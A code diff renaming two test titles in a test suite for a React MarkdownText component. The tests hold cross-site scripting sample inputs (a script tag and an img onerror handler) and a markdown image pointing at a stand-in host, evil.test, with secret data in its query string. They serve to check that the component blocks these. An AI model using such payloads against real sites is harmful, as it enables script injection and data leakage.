@@ -10,7 +10,7 @@ describe('MarkdownText', () => {
     expect(screen.getByRole('listitem')).toHaveTextContent('one')
   })
 
-  test('never renders HTML', () => {
+  test('MarkdownText never renders HTML', () => {
     const { container } = render(
       <MarkdownText text={'<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> **bold**'} />,
     )
@@ -43,7 +43,7 @@ describe('MarkdownText', () => {
     expect(breaks(true)).toBe(0)
   })
 
-  test('does not fetch pictures, whose URLs could leak data', () => {
+  test('MarkdownText does not fetch pictures, whose URLs could leak data', () => {
     const { container } = render(<MarkdownText text="![chart](https://evil.test/?data=secret)" />)
 
     expect(container.querySelector('img')).toBeNull()
